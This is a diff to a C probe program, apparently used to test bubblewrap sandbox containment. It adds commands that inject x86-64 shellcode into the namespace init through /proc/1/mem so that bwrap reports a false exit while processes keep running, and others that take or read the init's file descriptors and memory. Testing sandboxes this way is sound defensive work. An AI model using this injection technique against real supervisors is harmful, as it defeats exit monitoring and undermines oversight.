@@ -27,6 +27,7 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <stddef.h>
@@ -275,6 +276,100 @@ static int new_userns(void) {
     return errno_report("new-user-namespace", unshare(CLONE_NEWUSER));
 }
 
+/* The init's eventfd: bwrap's outer process takes "value - 1" written there
+ * as the program's exit code and exits with it. */
+static int init_eventfd(void) {
+    int evfd = -1;
+    DIR *dir = opendir("/proc/1/fd");
+    if (!dir) return -1;
+    for (struct dirent *e; (e = readdir(dir));) {
+        char link[300], target[128] = {0};
+        snprintf(link, sizeof link, "/proc/1/fd/%s", e->d_name);
+        if (readlink(link, target, sizeof target - 1) > 0 && strstr(target, "eventfd")) evfd = atoi(e->d_name);
+    }
+    closedir(dir);
+    return evfd;
+}
+
+/* Rewrites the namespace init (bwrap's pid 1) through /proc/1/mem: at the
+ * pc where its wait() returns, code that clears its parent-death signal,
+ * writes "exited 0" to the eventfd bwrap's outer process waits on, then
+ * pauses forever. A reparented orphan's exit wakes it. bwrap then exits 0
+ * while the init and this program live on. `mode` "closed" ends this
+ * program's streams (so the host's readers see EOF); "open" keeps them. */
+static int fake_exit(const char *mode) {
+#if defined(__x86_64__)
+    int evfd = init_eventfd();
+    if (evfd < 0) return report("fake-exit", 1, "no eventfd readable in the init");
+    unsigned long nr, arg[6], sp, pc;
+    FILE *sys = fopen("/proc/1/syscall", "r");
+    if (!sys) return errno_report("fake-exit", -1);
+    int fields = fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc);
+    fclose(sys);
+    if (fields != 9) return report("fake-exit", 1, "the init is not blocked in a call");
+    unsigned char code[] = {
+        0xbf, 0x01, 0, 0, 0,          /* mov edi, PR_SET_PDEATHSIG */
+        0x31, 0xf6,                   /* xor esi, esi */
+        0xb8, 0x9d, 0, 0, 0,          /* mov eax, SYS_prctl */
+        0x0f, 0x05,                   /* syscall */
+        0x6a, 0x01,                   /* push 1 ("exit code 0") */
+        0xbf, 0, 0, 0, 0,             /* mov edi, evfd (patched) */
+        0x48, 0x89, 0xe6,             /* mov rsi, rsp */
+        0xba, 0x08, 0, 0, 0,          /* mov edx, 8 */
+        0xb8, 0x01, 0, 0, 0,          /* mov eax, SYS_write */
+        0x0f, 0x05,                   /* syscall */
+        0xb8, 0x22, 0, 0, 0,          /* loop: mov eax, SYS_pause */
+        0x0f, 0x05,                   /* syscall */
+        0xeb, 0xf7,                   /* jmp loop */
+    };
+    memcpy(code + 17, &evfd, 4);
+    int mem = open("/proc/1/mem", O_RDWR);
+    if (mem < 0) return errno_report("fake-exit", -1);
+    if (pwrite(mem, code, sizeof code, (off_t)pc) != (ssize_t)sizeof code) return errno_report("fake-exit", -1);
+    close(mem);
+    pid_t middle = fork();
+    if (middle == 0) {
+        if (fork() == 0) { usleep(100000); _exit(0); } /* orphaned to the init, then exits */
+        _exit(0);
+    }
+    waitpid(middle, NULL, 0);
+    report("fake-exit", 1, "init rewritten; the host checks that nothing outlives wait()");
+    if (!strcmp(mode, "closed")) {
+        int null = open("/dev/null", O_RDWR);
+        dup2(null, 1);
+        dup2(null, 2);
+        close(3);
+    }
+    for (;;) pause();
+#else
+    (void)mode;
+    return report("fake-exit", 1, "no shellcode for this architecture");
+#endif
+}
+
+/* Take the init's eventfd with pidfd_getfd: the reach of ptrace without it. */
+static int pidfd_getfd_init(void) {
+    int evfd = init_eventfd();
+    if (evfd < 0) return report("pidfd-getfd", 1, "no eventfd readable in the init");
+    int pidfd = syscall(SYS_pidfd_open, 1, 0);
+    if (pidfd < 0) return errno_report("pidfd-getfd", -1);
+    return errno_report("pidfd-getfd", syscall(SYS_pidfd_getfd, pidfd, evfd, 0));
+}
+
+/* Read the init's memory with process_vm_readv (its stack, from /proc). */
+static int vm_read_init(void) {
+    char buf[16];
+    unsigned long nr, arg[6], sp = 0, pc;
+    FILE *sys = fopen("/proc/1/syscall", "r");
+    if (sys) {
+        if (fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc) != 9) sp = 0;
+        fclose(sys);
+    }
+    if (!sp) return report("process-vm-readv", 1, "no stack pointer of the init");
+    struct iovec local = {buf, sizeof buf}, remote = {(void *)sp, sizeof buf};
+    return errno_report("process-vm-readv", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
+}
+
 int main(int argc, char **argv) {
     const char *a = argc > 1 ? argv[1] : "";
     const char *arg = argc > 2 ? argv[2] : "";
@@ -305,6 +400,9 @@ int main(int argc, char **argv) {
     if (!strcmp(a, "new-user-namespace")) return new_userns();
     if (!strcmp(a, "list")) return list_dir(arg);
     if (!strcmp(a, "dump")) return dump(arg);
+    if (!strcmp(a, "pidfd-getfd")) return pidfd_getfd_init();
+    if (!strcmp(a, "process-vm-readv")) return vm_read_init();
+    if (!strcmp(a, "fake-exit")) return fake_exit(arg);
     if (!strcmp(a, "hang")) { report("hang", 1, "started"); for (;;) pause(); }
     if (!strcmp(a, "write-then-hang")) { write_path(arg, arg); for (;;) pause(); }
     if (!strcmp(a, "exit")) return atoi(arg);
